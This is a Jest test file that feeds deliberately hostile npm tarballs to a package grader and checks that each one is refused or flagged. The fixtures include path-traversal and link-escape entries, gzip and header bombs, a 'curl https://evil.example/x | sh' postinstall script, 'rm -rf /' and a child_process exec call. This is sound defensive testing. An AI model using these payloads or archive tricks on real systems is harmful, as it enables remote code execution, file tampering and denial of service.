/**
 * Hostile package archives (issue 6 scope 3, SPEC §9 untrusted input): npm tarballs and PyPI
 * wheels built to break the reader — paths and links pointing out, devices, gzip bombs (10 GiB),
 * bombs hidden in skipped entries, header bombs, 100 000 files, broken or padded package.json,
 * odd folder prefixes, pax headers with absurd values, digests that do not match.
 *
 * Every case goes through the real download + read path, most of them end to end through
 * `createBuiltinGrader` with a nock'd registry, and each must end one of two ways: refused (the
 * grader answers `error`, which the production policy turns into a blocking `GRADER_ERROR`), or
 * contained with a finding that says what was skipped. Around each case: the sandbox (the test's
 * cwd, TMPDIR and an "outside" folder the archives aim at) is snapshotted and must not change,
 * peak RSS growth is sampled, and wall time is bounded.
 */
import { createHash } from 'node:crypto'
import {
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  realpathSync,
  rmSync,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateRawSync, gunzipSync, gzipSync } from 'node:zlib'
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import nock from 'nock'
import type { AdvisorySource } from '../../src/grade/builtin/advisories/source.js'
import { createBuiltinGrader } from '../../src/grade/builtin/index.js'
import { type PackageFiles, readPackageFiles } from '../../src/grade/builtin/package-files.js'
import { fetchDistributionFiles } from '../../src/grade/builtin/python/pypi-distribution.js'
import { readWheelFiles } from '../../src/grade/builtin/python/wheel-files.js'
import { fetchPackageFiles } from '../../src/grade/builtin/tarball.js'
import type { GradeOutcome, GradeReport } from '../../src/grade/report.js'
import { HttpClient } from '../../src/net/http.js'
import { evaluateServer } from '../../src/policy/evaluate.js'
import type { ServerResult } from '../../src/policy/result.js'
import { NpmRegistryClient } from '../../src/resolve/npm-registry.js'
import { DistributionFileSchema } from '../../src/resolve/pypi-registry.js'
import { serverOf } from '../grade/builtin/helpers.js'
import { policyFor } from '../policy/make.js'
import {
  compressibleMiB,
  deflateRepeated,
  gzipRepeated,
  manyTinyFiles,
  MIB,
  paxHeader,
  paxRecords,
  type RawEntry,
  rawHeader,
  tarBomb,
  tarBytes,
  tgzOf,
  TYPE,
  zip64Differential,
  zipOf
} from './tarballs.js'

const REGISTRY = 'https://registry.test'
const NOW = new Date('2026-11-21T10:00:00Z')
const PRODUCTION = policyFor('production')
/** What a reader may add to RSS around one hostile archive (issue 6: "memory bounded"). */
const MAX_RSS_GROWTH = 200 * MIB
/** Wall-time bound per case: each takes under 3 s here; inflating a whole 10 GiB bomb, over 12 s. */
const MAX_MS = 10_000
const SECRET = 'TOP-SECRET-4f1c9a-never-read-me'

/** An advisory source that knows no advisory, so no OSV request is made. */
const NO_ADVISORIES: AdvisorySource = {
  name: 'test (empty)',
  lookup: async (queries) => queries.map(() => [])
}

// ── sandbox: nothing may be written anywhere ──────────────────────────────────────────────────

interface Sandbox {
  root: string
  cwd: string
  tmp: string
  outside: string
  secretPath: string
}

let sandbox: Sandbox
let initialTree: string[]
let previousCwd: string
let previousTmpdir: string | undefined

/** Every path under `root` with its type, size, mtime and content digest (or link target). */
function tree(root: string): string[] {
  const out: string[] = []
  const walk = (dir: string): void => {
    for (const name of readdirSync(dir).sort()) {
      const path = join(dir, name)
      const stat = lstatSync(path)
      const rel = path.slice(root.length)
      if (stat.isSymbolicLink()) out.push(`${rel} -> ${readlinkSync(path)}`)
      else if (stat.isDirectory()) {
        out.push(`${rel}/`)
        walk(path)
      } else {
        const digest = createHash('sha256').update(readFileSync(path)).digest('hex')
        out.push(`${rel} ${stat.size} ${stat.mtimeMs} ${digest}`)
      }
    }
  }
  walk(root)
  return out
}

beforeAll(() => {
  nock.disableNetConnect()
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'mcp-hostile-')))
  sandbox = {
    root,
    cwd: join(root, 'cwd'),
    tmp: join(root, 'tmp'),
    outside: join(root, 'outside'),
    secretPath: join(root, 'outside', 'secret.txt')
  }
  for (const dir of [sandbox.cwd, sandbox.tmp, sandbox.outside]) mkdirSync(dir)
  writeFileSync(sandbox.secretPath, SECRET)
  previousCwd = process.cwd()
  previousTmpdir = process.env.TMPDIR
  process.chdir(sandbox.cwd)
  process.env.TMPDIR = sandbox.tmp // whatever asks os.tmpdir() now writes where we look
  initialTree = tree(root)
})

afterAll(() => {
  process.chdir(previousCwd)
  if (previousTmpdir === undefined) delete process.env.TMPDIR
  else process.env.TMPDIR = previousTmpdir
  rmSync(sandbox.root, { recursive: true, force: true })
  nock.enableNetConnect()
})

afterEach(() => {
  nock.cleanAll()
})

interface Measured<T> {
  value: T
  ms: number
  /** Peak RSS growth in bytes, sampled every few ms while `work` ran. */
  rssGrowth: number
}

/**
 * Run `work` while sampling RSS and timing it, then check that the sandbox did not change: no
 * file written in the cwd, in TMPDIR, or next to the secret the archives aim at.
 */
async function contained<T>(work: () => Promise<T>): Promise<Measured<T>> {
  const before = process.memoryUsage().rss
  let peak = before
  const sample = (): void => {
    peak = Math.max(peak, process.memoryUsage().rss)
  }
  const timer = setInterval(sample, 2)
  const start = performance.now()
  try {
    const value = await work()
    const ms = performance.now() - start
    sample()
    expect(tree(sandbox.root)).toEqual(initialTree)
    return { value, ms, rssGrowth: peak - before }
  } finally {
    clearInterval(timer)
  }
}

// ── the grader, end to end ────────────────────────────────────────────────────────────────────

function sri(data: Buffer, algorithm = 'sha512'): string {
  return `${algorithm}-${createHash(algorithm).update(data).digest('base64')}`
}

interface PublishOptions {
  /** `dist.integrity` to publish; default the tarball's own sha512. */
  integrity?: string
  /** `dist.shasum` to publish (hex SHA-1). */
  shasum?: string
  /** Publish neither digest. */
  noDigest?: boolean
  /** Fields of the registry's version manifest. */
  manifest?: Record<string, unknown>
}

interface Graded {
  name: string
  outcome: GradeOutcome
  /** The production policy's judgement of the outcome. */
  result: ServerResult
  ms: number
  rssGrowth: number
}

let serial = 0

/** Serve `tgz` as `hostile-N@1.0.0` on the fake registry and grade it with the built-in grader. */
async function gradeTarball(tgz: Buffer, options: PublishOptions = {}): Promise<Graded> {
  serial += 1
  const name = `hostile-${serial}`
  const version = '1.0.0'
  const tarball = `${REGISTRY}/${name}/-/${name}-${version}.tgz`
  const digests = options.noDigest
    ? {}
    : options.shasum !== undefined
      ? { shasum: options.shasum }
      : { integrity: options.integrity ?? sri(tgz) }
  nock(REGISTRY)
    .get(`/${name}`)
    .reply(200, {
      name,
      'dist-tags': { latest: version },
      versions: {
        [version]: {
          name,
          version,
          license: 'MIT',
          ...options.manifest,
          dist: { tarball, ...digests }
        }
      },
      time: { [version]: '2026-10-01T00:00:00Z' },
      maintainers: [{ name: 'a' }, { name: 'b' }]
    })
    .get(`/${name}/-/${name}-${version}.tgz`)
    .reply(200, tgz)
  const http = new HttpClient({ retries: 0, sleep: async () => undefined })
  const npm = new NpmRegistryClient({ http, registry: REGISTRY })
  const grader = createBuiltinGrader({ npm, http, now: () => NOW, advisories: NO_ADVISORIES })
  const server = serverOf({ name, version })
  const { value: outcome, ms, rssGrowth } = await contained(() => grader.grade(server))
  const result = evaluateServer(
    {
      server,
      outcome,
      literalSecrets: [],
      configFindings: [],
      registry: null,
      exceptions: null,
      today: '2026-11-21'
    },
    PRODUCTION
  )
  return { name, outcome, result, ms, rssGrowth }
}

/** Refused: a grader error naming why, which the production policy blocks on. */
function expectRefused(graded: Graded, why: RegExp): void {
  expect(graded.outcome).toEqual({ kind: 'error', message: expect.stringMatching(why) })
  expect(graded.result.verdict).toBe('error')
  expect(graded.result.grade).toBeNull()
  expect(graded.result.reasons).toContainEqual(
    expect.objectContaining({ code: 'GRADER_ERROR', severity: 'error' })
  )
}

/** Contained: a grade that carries `ruleId` with a snippet matching `snippet`. */
function expectFlagged(graded: Graded, ruleId: string, snippet: RegExp): GradeReport {
  if (graded.outcome.kind !== 'graded') {
    throw new Error(`expected a grade, got ${JSON.stringify(graded.outcome)}`)
  }
  const report = graded.outcome.report
  const finding = report.findings.find((f) => f.ruleId === ruleId)
  expect(finding?.evidence?.snippet).toMatch(snippet)
  return report
}

/** Bounded: in time and in memory. */
function expectBounded(measured: { ms: number; rssGrowth: number }): void {
  expect(measured.ms).toBeLessThan(MAX_MS)
  expect(measured.rssGrowth).toBeLessThan(MAX_RSS_GROWTH)
}

const README = `# Weather MCP

${'This server answers questions about the weather for any city in the world. '.repeat(8)}

## Installation

Add it to your client's mcpServers with npx.
`

/** A small, honest package: what every hostile archive below adds its entries to. */
function basePackage(prefix = 'package/'): RawEntry[] {
  return [
    {
      path: `${prefix}package.json`,
      content: JSON.stringify({ name: 'weather-mcp', version: '1.0.0', main: 'index.js' })
    },
    { path: `${prefix}README.md`, content: README },
    {
      path: `${prefix}LICENSE`,
      content: 'MIT License\n\nPermission is hereby granted, free of charge'
    },
    { path: `${prefix}index.js`, content: 'console.log("weather")\n' }
  ]
}

/** The kept files of a read must never hold the secret the archive pointed at. */
function expectSecretNotRead(files: PackageFiles): void {
  for (const data of files.files.values()) expect(data.toString('latin1')).not.toContain(SECRET)
}

let baseline: GradeReport

beforeAll(async () => {
  const graded = await gradeTarball(tgzOf(basePackage()))
  if (graded.outcome.kind !== 'graded') throw new Error('the base package must grade')
  baseline = graded.outcome.report
})

// ── the builders themselves ───────────────────────────────────────────────────────────────────

describe('hostile archive builders', () => {
  it('build valid gzip (true CRC-32 and ISIZE) from repeated parts', () => {
    const parts = [
      { data: Buffer.from('head ') },
      { data: Buffer.from('abc'), times: 1000 },
      { data: Buffer.alloc(5000) }
    ]
    const out = gunzipSync(gzipRepeated(parts)) // throws on a bad CRC or length
    expect(out.length).toBe(5 + 3000 + 5000)
    expect(out.subarray(0, 8).toString()).toBe('head abc')
  })

  it('build a real 10 GiB bomb of about 10 MB whose tar framing reads back', async () => {
    const bomb = tarBomb({
      header: { path: 'package/zeros' },
      unit: Buffer.alloc(MIB),
      times: 10240
    })
    expect(bomb.unpacked).toBe(10 * 1024 * MIB + 512 + 1024)
    expect(bomb.tgz.length).toBeLessThan(11 * 1000 * 1000)
    const small = tarBomb({
      header: { path: 'package/big.txt' },
      unit: compressibleMiB(),
      times: 3
    })
    const files = await readPackageFiles(small.tgz, { maxFileBytes: 4 * MIB })
    expect(files.stopped).toBeNull()
    expect(files.files.get('big.txt')?.length).toBe(3 * MIB)
  })
})

// ── paths and links ───────────────────────────────────────────────────────────────────────────

describe('entries that point outside the package', () => {
  it('refuses ../, absolute, drive and UNC paths (ustar, pax and GNU long names) with a finding', async () => {
    const escapes: RawEntry[] = [
      { path: 'package/../../outside/pwned.txt', content: 'PWNED' },
      {
        path: 'package/x',
        before: paxHeader(paxRecords({ path: join(sandbox.outside, 'abs.txt') })),
        content: 'PWNED'
      },
      { path: 'C:\\Windows\\System32\\evil.dll', content: 'MZ' },
      { path: '\\\\server\\share\\evil.js', content: 'PWNED' },
      {
        path: 'package/innocent.js',
        before: paxHeader(paxRecords({ path: 'package/../../../outside/pax.txt' })),
        content: 'PWNED'
      },
      {
        path: '././@LongLink',
        type: TYPE.gnuLongPath,
        content: `package/${'a/'.repeat(60)}${'../'.repeat(70)}outside/gnu.txt\0`
      },
      { path: 'package/placeholder-for-the-long-name', content: 'PWNED' }
    ]
    const tgz = tgzOf([...basePackage(), ...escapes])
    const { value: files } = await contained(() => readPackageFiles(tgz))
    expect(files.stopped).toBeNull()
    expect(files.skipped.map((s) => s.reason)).toEqual([
      'parent-segment',
      'absolute-path',
      'absolute-path',
      'absolute-path',
      'parent-segment',
      'parent-segment'
    ])
    expect([...files.files.keys()]).toEqual(['package.json', 'README.md', 'LICENSE', 'index.js'])

    const graded = await gradeTarball(tgz)
    const report = expectFlagged(
      graded,
      'tarball.unsafe-entry',
      /^6 entries: path package\/\.\.\/\.\.\/outside/
    )
    expect(report.subScores.security?.score).toBeLessThan(baseline.subScores.security!.score!)
    expectBounded(graded)
  })

  it('never follows symbolic or hard links, and writes nothing through them', async () => {
    const links: RawEntry[] = [
      { path: 'package/secret', type: TYPE.symlink, linkpath: '../../outside/secret.txt' },
      { path: 'package/abs', type: TYPE.symlink, linkpath: sandbox.secretPath },
      { path: 'package/hard', type: TYPE.hardlink, linkpath: sandbox.secretPath },
      {
        path: 'package/hard-rel',
        type: TYPE.hardlink,
        linkpath: 'package/../../outside/secret.txt'
      },
      // the classic "write through a link": a link to a folder outside, then a file under it
      { path: 'package/dir', type: TYPE.symlink, linkpath: sandbox.outside },
      { path: 'package/dir/pwned.txt', content: 'PWNED' },
      // a link that replaces the package.json read before it
      { path: 'package/package.json', type: TYPE.symlink, linkpath: '/etc/passwd' }
    ]
    const tgz = tgzOf([...basePackage(), ...links])
    const { value: files } = await contained(() => readPackageFiles(tgz))
    expectSecretNotRead(files)
    expect(files.skipped.map((s) => [s.reason, s.linkpath])).toEqual([
      ['symlink', '../../outside/secret.txt'],
      ['symlink', sandbox.secretPath],
      ['hardlink', sandbox.secretPath],
      ['hardlink', 'package/../../outside/secret.txt'],
      ['symlink', sandbox.outside],
      ['symlink', '/etc/passwd']
    ])
    expect(files.skipped.filter((s) => /points outside the package/.test(s.note))).toHaveLength(6)
    // the file "under" the link is only a path in memory; the real package.json is still read
    expect(files.files.get('dir/pwned.txt')?.toString()).toBe('PWNED')
    expect(JSON.parse(files.files.get('package.json')!.toString())).toMatchObject({
      name: 'weather-mcp'
    })

    const graded = await gradeTarball(tgz)
    const report = expectFlagged(
      graded,
      'tarball.unsafe-entry',
      /^6 entries: symbolic link package\/secret/
    )
    expect(report.subScores.security?.score).toBeLessThan(baseline.subScores.security!.score!)
    expectBounded(graded)
  })

  it('skips character and block devices, FIFOs and entries of unknown type, with a finding', async () => {
    const odd: RawEntry[] = [
      { path: 'package/null', type: TYPE.charDevice, devmajor: 1, devminor: 3 },
      { path: 'package/sda', type: TYPE.blockDevice, devmajor: 8, devminor: 0 },
      { path: 'package/pipe', type: TYPE.fifo },
      { path: 'package/sparse', type: 'S', content: 'sparse data' },
      { path: 'package/volume', type: 'V' },
      { path: 'package/weird', type: 'Z', content: 'what is this' }
    ]
    const tgz = tgzOf([...basePackage(), ...odd])
    const { value: files } = await contained(() => readPackageFiles(tgz))
    expect(files.skipped.map((s) => s.reason)).toEqual([
      'device',
      'device',
      'fifo',
      'unsupported-type',
      'unsupported-type',
      'unsupported-type'
    ])
    expect(files.entries.map((e) => e.path)).toEqual([
      'package.json',
      'README.md',
      'LICENSE',
      'index.js'
    ])

    const graded = await gradeTarball(tgz)
    expectFlagged(graded, 'tarball.unsafe-entry', /^6 entries: device file package\/null skipped/)
    expectBounded(graded)
  })
})

describe('any mix of entry paths, types and link targets', () => {
  /** Fixed so a failure reproduces; fast-check prints it with the failing case. */
  const SEED = 20261121
  const segment = fc.constantFrom(
    '..',
    '.',
    '',
    'package',
    'lib',
    'C:',
    '\\',
    '~',
    '%2e%2e',
    'a\u0000b',
    'ü',
    'x'.repeat(40)
  )
  const path = fc
    .tuple(
      fc.array(segment, { minLength: 1, maxLength: 6 }),
      fc.constantFrom('/', '\\'),
      fc.boolean()
    )
    .map(([parts, separator, absolute]) => `${absolute ? separator : ''}${parts.join(separator)}`)
  const entry = fc.record({
    path,
    type: fc.constantFrom('0', '0', '0', '1', '2', '3', '4', '5', '6', '7', 'S', 'Z'),
    linkpath: path,
    viaPax: fc.boolean()
  })

  it('keeps only regular files at safe paths, never reads a link, never throws', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(entry, { maxLength: 12 }), async (specs) => {
        const entries: RawEntry[] = specs.map((spec, i) => {
          const isLink = spec.type === TYPE.symlink || spec.type === TYPE.hardlink
          const fits =
            Buffer.byteLength(spec.path) <= 100 && Buffer.byteLength(spec.linkpath) <= 100
          const records: Record<string, string> = {}
          if (spec.viaPax || !fits) records.path = spec.path
          if (isLink && (spec.viaPax || !fits)) records.linkpath = spec.linkpath
          const hasPax = Object.keys(records).length > 0
          return {
            path: hasPax ? `package/pax-${i}` : spec.path,
            type: spec.type,
            ...(isLink && { linkpath: hasPax ? 'pax' : spec.linkpath }),
            ...(hasPax && { before: paxHeader(paxRecords(records)) }),
            ...(!isLink && spec.type !== TYPE.directory && { content: `content ${i}` })
          }
        })
        const files = await readPackageFiles(tgzOf([...basePackage(), ...entries]))
        expect(files.stopped).toBeNull()
        // inside the package folder: relative, "/"-separated, no ".." (a "C:" segment inside
        // the folder is an ordinary name, as npm unpacks it on POSIX)
        for (const kept of files.files.keys()) {
          expect(kept).not.toMatch(/^\/|\\/)
          expect(kept.split('/')).not.toContain('..')
        }
        expectSecretNotRead(files)
        // every file kept is the content of a regular-file entry
        const contents = new Set(['content', ...basePackage().map((e) => String(e.content))])
        for (const data of files.files.values()) {
          const text = data.toString()
          expect(contents.has(text) || /^content \d+$/.test(text)).toBe(true)
        }
      }),
      { seed: SEED, numRuns: 150 }
    )
    expect(tree(sandbox.root)).toEqual(initialTree)
  })
})

// ── bombs ─────────────────────────────────────────────────────────────────────────────────────

describe('gzip bombs', () => {
  it('refuses 10 GiB of zeros (~10 MB compressed) at the 1000:1 ratio, in bounded memory', async () => {
    const bomb = tarBomb({
      lead: basePackage(),
      header: { path: 'package/zeros.bin' },
      unit: Buffer.alloc(MIB),
      times: 10240
    })
    const graded = await gradeTarball(bomb.tgz)
    expectRefused(
      graded,
      /^hostile-\d+@1\.0\.0: the tarball decompresses more than 1000:1 \(a gzip bomb\?\)/
    )
    expectBounded(graded)
  })

  it('refuses 10 GiB of text that stays under the ratio (~31 MB) at the unpacked-size cap', async () => {
    const bomb = tarBomb({
      lead: basePackage(),
      header: { path: 'package/dist/bundle.js' },
      unit: compressibleMiB(),
      times: 10240
    })
    expect(bomb.tgz.length).toBeLessThan(50 * MIB) // under the download limit: the reader must cope
    const graded = await gradeTarball(bomb.tgz)
    expectRefused(graded, /the tarball unpacks to more than 104857600 bytes \(a gzip bomb\?\)/)
    expectBounded(graded)
  })

  // Before the fix, the data of skipped entries was inflated but never counted: 10 GiB hidden
  // in a link, a device or a refused path was read to the end (~12 s per GiB-ish bomb),
  // and entries node-tar ignores were not even listed.
  const hidden: Array<[string, Omit<RawEntry, 'content'>]> = [
    ['a symbolic link', { path: 'package/link', type: TYPE.symlink, linkpath: '../../etc/passwd' }],
    ['a hard link', { path: 'package/hard', type: TYPE.hardlink, linkpath: '/etc/passwd' }],
    ['a ../ path', { path: 'package/../../bomb' }],
    ['an absolute path', { path: '/tmp/bomb' }],
    ['a FIFO', { path: 'package/fifo', type: TYPE.fifo }],
    ['a character device', { path: 'package/tty', type: TYPE.charDevice }],
    ['a directory', { path: 'package/dir/', type: TYPE.directory }],
    ['an entry of unknown type', { path: 'package/unknown', type: 'Z' }],
    ['a pax header', { path: 'PaxHeaders/huge', type: TYPE.paxLocal }],
    ['a GNU long name', { path: '././@LongLink', type: TYPE.gnuLongPath }]
  ]
  it.each(hidden)('stops 10 GiB hidden in %s', async (_label, header) => {
    const bomb = tarBomb({ lead: basePackage(), header, unit: compressibleMiB(), times: 10240 })
    const { value: files, ms, rssGrowth } = await contained(() => readPackageFiles(bomb.tgz))
    expect(files.stopped?.message).toMatch(/reading stopped/)
    expect(files.unpackedBytes).toBeLessThanOrEqual(100 * MIB + 64 * 1024)
    expectBounded({ ms, rssGrowth })
  })

  it('refuses a bomb hidden in a skipped link end to end', async () => {
    const bomb = tarBomb({
      lead: basePackage(),
      header: { path: 'package/link', type: TYPE.symlink, linkpath: '/etc/passwd' },
      unit: compressibleMiB(),
      times: 10240
    })
    const graded = await gradeTarball(bomb.tgz)
    expectRefused(graded, /unpacks to more than 104857600 bytes/)
    expectBounded(graded)
  })

  it('stops reading at the end-of-archive blocks: 1 GiB of data after them is never inflated', async () => {
    // node-tar buffers whatever follows the end of the archive, copying it all again on every
    // chunk: 16 MiB took 10 s before the fix, 1 GiB would take hours
    const tgz = gzipRepeated([
      { data: tarBytes(basePackage()) },
      { data: compressibleMiB(), times: 1024 }
    ])
    const { value: files, ms } = await contained(() => readPackageFiles(tgz))
    expect(files.stopped).toBeNull()
    expect([...files.files.keys()]).toEqual(['package.json', 'README.md', 'LICENSE', 'index.js'])
    expect(ms).toBeLessThan(1000)

    const graded = await gradeTarball(tgz)
    expect(graded.outcome.kind).toBe('graded')
    expectBounded(graded)
  })

  it('refuses a header bomb: 100 000 stacked pax headers, or a stream of bad-checksum blocks', async () => {
    const paxBlock = rawHeader({ path: 'PaxHeaders/stacked', type: TYPE.paxLocal })
    const stacked = gzipSync(
      Buffer.concat([...Array<Buffer>(100_000).fill(paxBlock), tarBytes(basePackage())]),
      { level: 1 }
    )
    const garbage = gzipSync(
      Buffer.concat([
        tarBytes(basePackage()).subarray(0, -1024),
        Buffer.alloc(64 * MIB, 'garbage!')
      ]),
      { level: 1 }
    )
    for (const tgz of [stacked, garbage]) {
      const { value: files, ms } = await contained(() => readPackageFiles(tgz))
      expect(files.stopped).toMatchObject({
        reason: 'entry-count',
        message: expect.stringMatching(
          /bytes of tar headers and padding .*stacked or unreadable headers/
        )
      })
      expect(ms).toBeLessThan(MAX_MS)
    }
    const graded = await gradeTarball(stacked)
    expectRefused(graded, /stacked or unreadable headers.*not graded from a partial read/)
  })

  it('refuses a tarball compressed twice (node-tar would inflate the inner gzip uncounted)', async () => {
    const inner = gzipRepeated([
      { data: tarBytes(basePackage()) },
      { data: Buffer.alloc(MIB), times: 1024 }
    ])
    const graded = await gradeTarball(gzipSync(inner))
    expectRefused(graded, /compressed twice/)
    expectBounded(graded)
  })
})

// ── sizes and counts ──────────────────────────────────────────────────────────────────────────

describe('sizes and counts', () => {
  it('lists a file over the read limit without reading it, and says its code was not analysed', async () => {
    const tgz = tgzOf([
      ...basePackage().filter((e) => e.path !== 'package/index.js'),
      { path: 'package/index.js', content: Buffer.alloc(2 * MIB, 'a') }
    ])
    const { value: files } = await contained(() => readPackageFiles(tgz))
    expect(files.files.has('index.js')).toBe(false)
    expect(files.skipped).toEqual([
      expect.objectContaining({ path: 'index.js', reason: 'too-large' })
    ])
    const graded = await gradeTarball(tgz)
    const report = expectFlagged(
      graded,
      'source.not-analysed',
      /index\.js: not read from the tarball/
    )
    expect(report.subScores.security?.score).toBeLessThan(baseline.subScores.security!.score!)
  })

  it('refuses a package.json padded over the read limit (it could hide install scripts)', async () => {
    const padded = JSON.stringify({
      name: 'weather-mcp',
      version: '1.0.0',
      scripts: { postinstall: 'curl https://evil.example/x | sh' },
      description: ' '.repeat(2 * MIB)
    })
    const tgz = tgzOf([
      ...basePackage().slice(1),
      { path: 'package/package.json', content: padded }
    ])
    const graded = await gradeTarball(tgz)
    expectRefused(graded, /its package\.json \(\d+ bytes\) is over the read limit.*install scripts/)
  })

  it('refuses 100 000 tiny files at the entry cap, in bounded time', async () => {
    const tgz = gzipSync(manyTinyFiles(100_000), { level: 1 })
    const graded = await gradeTarball(tgz)
    expectRefused(graded, /the tarball has more than 20000 entries; reading stopped/)
    expectBounded(graded)
  })
})

// ── package.json ──────────────────────────────────────────────────────────────────────────────

describe('a package.json that cannot be trusted', () => {
  const withPackageJson = (content: string | Buffer | null): Buffer =>
    tgzOf([
      ...(content === null ? [] : [{ path: 'package/package.json', content }]),
      ...basePackage().slice(1)
    ])

  it.each([
    ['not JSON', '{"name": "weather-mcp", ', /^not valid JSON: .* at line 1, column 25$/],
    ['missing', null, /^no package\.json in the tarball$/],
    ['an array', '[1, 2, 3]', /valid JSON but not an object/],
    ['null', 'null', /valid JSON but not an object/],
    ['binary', Buffer.from([0, 1, 2, 0xff, 0xfe, 0x7b]), /^not valid JSON/],
    ['UTF-16', Buffer.from('{"name":"x"}', 'utf16le'), /^not valid JSON/]
  ])('%s: graded with tarball.package-json-invalid', async (_label, content, snippet) => {
    const graded = await gradeTarball(withPackageJson(content))
    const report = expectFlagged(graded, 'tarball.package-json-invalid', snippet)
    expect(report.subScores.compatibility?.score).toBeLessThan(
      baseline.subScores.compatibility!.score!
    )
  })

  it('wrong shape: every bad field is located, no entry point is trusted', async () => {
    const wrong = JSON.stringify({
      name: { x: 1 },
      version: 7,
      bin: 5,
      main: ['index.js'],
      exports: 42,
      scripts: 'rm -rf /',
      dependencies: [1, 2]
    })
    const graded = await gradeTarball(withPackageJson(wrong))
    expectFlagged(
      graded,
      'source.not-analysed',
      /"bin" is not valid.*its entry points were not read/
    )
    expectFlagged(graded, 'npm.manifest-mismatch', /name: registry hostile-\d+, tarball \{"x":1\}/)
  })

  it('entry points aimed outside the package are not followed', async () => {
    const outward = JSON.stringify({
      name: 'weather-mcp',
      version: '1.0.0',
      main: '../../outside/secret.txt',
      bin: { w: sandbox.secretPath },
      exports: { '.': '../../../outside/secret.txt' }
    })
    const graded = await gradeTarball(withPackageJson(outward))
    expectFlagged(graded, 'source.not-analysed', /secret\.txt/)
  })

  it('__proto__ and constructor keys, 100 000 levels of nesting, duplicate keys: no crash, no pollution', async () => {
    const nested = `{"name":"weather-mcp","exports":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}`
    const cases = [
      '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, "main": "index.js"}',
      nested,
      '{"main": "index.js", "main": "../../outside/secret.txt"}'
    ]
    for (const content of cases) {
      const graded = await gradeTarball(withPackageJson(content))
      expect(graded.outcome.kind).toBe('graded')
      expectBounded(graded)
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
  })

  it('a tarball package.json that differs from the registry manifest is what counts', async () => {
    // "manifest confusion": npm runs the scripts of the tarball's package.json
    const confused = JSON.stringify({
      name: 'weather-mcp',
      version: '6.6.6',
      scripts: { postinstall: 'curl https://evil.example/x | sh' }
    })
    const graded = await gradeTarball(withPackageJson(confused))
    expectFlagged(graded, 'npm.install-script', /postinstall: curl https:\/\/evil\.example/)
    expectFlagged(graded, 'npm.manifest-mismatch', /scripts\.postinstall: registry \(none\)/)
  })
})

// ── folder prefixes ───────────────────────────────────────────────────────────────────────────

describe('the package folder', () => {
  it('strips any first folder like npm does: node/ grades exactly like package/', async () => {
    const graded = await gradeTarball(tgzOf(basePackage('node/')))
    if (graded.outcome.kind !== 'graded') throw new Error('expected a grade')
    const { auditedAt: _a, ...report } = graded.outcome.report
    const { auditedAt: _b, ...expected } = baseline
    expect(report.overall).toEqual(expected.overall)
    expect(report.findings.map((f) => f.ruleId)).toEqual(expected.findings.map((f) => f.ruleId))
  })

  it('keeps the last of colliding folders, as npm would install it', async () => {
    const files = await readPackageFiles(
      tgzOf([
        ...basePackage(),
        { path: 'evil/index.js', content: 'require("child_process").exec("id")\n' }
      ])
    )
    expect(files.files.get('index.js')?.toString()).toMatch(/child_process/)
    expect(files.entries.filter((e) => e.path === 'index.js')).toHaveLength(1)
  })

  it('skips files with no folder at all, with a finding, and misses the package.json', async () => {
    const graded = await gradeTarball(tgzOf(basePackage('')))
    expectFlagged(
      graded,
      'tarball.unsafe-entry',
      /^4 entries: package\.json is not inside the package folder/
    )
    expectFlagged(graded, 'tarball.package-json-invalid', /no package\.json/)
  })
})

// ── pax headers with absurd values ────────────────────────────────────────────────────────────

describe('pax headers with huge values', () => {
  const pax = (records: Record<string, string>): Buffer => paxHeader(paxRecords(records))

  it('a size of 1e400 (infinite) swallows the rest of the archive: reading stops, refused', async () => {
    const tgz = tgzOf([
      ...basePackage(),
      { path: 'package/inf.js', before: pax({ size: '1e400' }), content: 'x'.repeat(5000) }
    ])
    const { value: files } = await contained(() => readPackageFiles(tgz))
    expect(files.stopped).toMatchObject({
      reason: 'corrupt',
      message: expect.stringMatching(/Truncated input/)
    })
    const graded = await gradeTarball(tgz)
    expectRefused(graded, /the tarball is damaged: Truncated input/)
  })

  it('a base-256 size of 2^52 bytes in the ustar header: refused, not allocated', async () => {
    const tgz = tgzOf([
      ...basePackage(),
      { path: 'package/huge.bin', size: 2 ** 52, content: 'tiny' }
    ])
    const graded = await gradeTarball(tgz)
    expectRefused(graded, /the tarball is damaged/)
    expectBounded(graded)
  })

  it('a path of 900 KiB: refused as a header bomb, and every note stays short', async () => {
    const long = `package/${'a'.repeat(900 * 1024)}.js`
    const tgz = tgzOf([
      ...basePackage(),
      { path: 'package/x.js', before: pax({ path: long }), content: 'x' }
    ])
    const { value: files } = await contained(() => readPackageFiles(tgz))
    expect(files.stopped?.reason).toBe('entry-count')
    expect(files.stopped!.message.length).toBeLessThan(300)
    const graded = await gradeTarball(tgz)
    expectRefused(graded, /stacked or unreadable headers/)
  })

  it('a pax header over node-tar 1 MiB limit is listed, not silently dropped', async () => {
    const body = Buffer.alloc(2 * MIB, 'a')
    const tgz = tgzOf([
      ...basePackage(),
      { path: 'PaxHeaders/big', type: TYPE.paxLocal, content: body }
    ])
    const { value: files } = await contained(() => readPackageFiles(tgz))
    expect(files.skipped).toContainEqual(
      expect.objectContaining({
        reason: 'unsupported-type',
        note: expect.stringMatching(/ExtendedHeader \(2097152 bytes\)/)
      })
    )
    expect(files.stopped?.reason).toBe('entry-count')
  })

  it('absurd times, ids and modes, a lying record length and a global path: contained', async () => {
    const tgz = tgzOf([
      ...basePackage(),
      {
        path: 'package/odd.js',
        before: Buffer.concat([
          pax({ mtime: '1e308', atime: '-1e308', uid: '-1', gid: 'NaN', mode: '99999999999' }),
          paxHeader(Buffer.from('99999999999 path=package/../../outside/lie.txt\n')),
          paxHeader(paxRecords({ path: '../../outside/global.txt' }), { global: true })
        ]),
        content: 'odd'
      }
    ])
    const { value: files } = await contained(() => readPackageFiles(tgz))
    expect(files.stopped).toBeNull()
    expect(files.files.get('odd.js')?.toString()).toBe('odd')
    expect(files.skipped).toEqual([])
  })
})

// ── digests ───────────────────────────────────────────────────────────────────────────────────

describe('a tarball that does not match the registry', () => {
  const tgz = tgzOf(basePackage())
  const other = tgzOf([...basePackage(), { path: 'package/extra.js', content: 'x' }])

